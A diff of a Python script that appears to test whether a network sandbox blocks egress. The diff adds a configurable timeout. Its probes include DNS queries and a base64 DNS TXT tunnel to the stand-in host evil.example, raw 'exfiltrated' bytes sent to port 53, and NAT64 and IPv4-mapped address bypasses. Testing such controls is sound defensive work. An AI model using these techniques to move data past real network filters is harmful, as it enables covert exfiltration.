@@ -97,10 +97,10 @@ def connect(host, port, data=b"ALTRACE-ATTACK\r\n\r\n", sport=0):
         return f"read {len(s.recv(200))}"
 
 
-def send(host, port, data=b"ALTRACE-ATTACK", sport=0):
+def send(host, port, data=b"ALTRACE-ATTACK", sport=0, wait_s=WAIT_S):
     family = socket.AF_INET6 if ":" in host else socket.AF_INET
     with socket.socket(family, socket.SOCK_DGRAM) as s:
-        s.settimeout(WAIT_S)
+        s.settimeout(wait_s)
         if sport:
             s.bind(("", sport))
         s.sendto(data, (host, port))
@@ -135,7 +135,8 @@ attack("tcp4-mapped")(lambda n: connect(f"::ffff:{d4(n)}", 443))
 attack("nat64")(lambda n: connect(f"64:ff9b::198.18.0.{n}", 443))
 attack("dns-udp4")(lambda n: send(d4(n), 53, question("evil.example")))
 attack("dns-udp6")(lambda n: send(d6(n), 53, question("evil.example")))
-attack("dns-allowed")(lambda n: send(d4(n), 53, question("allowed.example")))
+# The one that is answered: a busy machine takes its time for it.
+attack("dns-allowed")(lambda n: send(d4(n), 53, question("allowed.example"), wait_s=20))
 attack("dns-txt-tunnel")(lambda n: send(d4(n), 53, question("c2VjcmV0.evil.example", 16)))
 attack("dns-tcp4")(lambda n: connect(d4(n), 53, b"\0\x1e" + question("evil.example")))
 attack("not-dns-on-53")(lambda n: send(d4(n), 53, b"exfiltrated"))
